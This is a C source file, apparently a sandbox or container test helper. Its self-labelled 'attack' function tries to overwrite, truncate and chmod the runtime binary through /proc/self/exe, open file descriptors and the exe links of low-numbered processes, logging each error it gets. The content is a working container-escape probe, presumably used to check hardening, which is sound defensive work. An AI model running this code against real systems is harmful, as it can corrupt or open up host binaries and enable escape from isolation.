#define _GNU_SOURCE
#include "misbehave_rewrite.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum {
  busy_tries = 100, /* while somebody still runs it, it is busy; a try a millisecond */
  max_process = 16, /* of the pid namespace: its first ones */
};

static const char* overwrite(const char* path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  for (int i = 0; fd < 0 && errno == ETXTBSY && i < busy_tries; ++i) {
    poll(NULL, 0, 1);
    fd = open(path, flags | O_CLOEXEC);
  }
  if (fd < 0) {
    return strerrorname_np(errno);
  }
  static const char text[] = "#!/bin/false\n";
  const char* result = write(fd, text, sizeof text - 1) < 0 ? strerrorname_np(errno) : "written";
  close(fd);
  return result;
}

static void attack(const char* path) {
  fprintf(stderr, "rewrite %s: %s\n", path, overwrite(path, O_WRONLY));
  fprintf(stderr, "truncate %s: %s\n", path, overwrite(path, O_RDWR | O_TRUNC));
  fprintf(stderr, "chmod %s: %s\n", path, chmod(path, 0666) < 0 ? strerrorname_np(errno) : "done");
}

void rewrite_runtime(int kept) {
  char path[64];
  if (kept > STDERR_FILENO) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept);
    attack(path);
  }
  attack("/proc/self/exe");
  attack("/proc/thread-self/exe");
  for (int process = 1; process <= max_process; ++process) {
    snprintf(path, sizeof path, "/proc/%d/exe", process);
    if (access(path, F_OK) == 0) {
      attack(path);
    }
  }
}
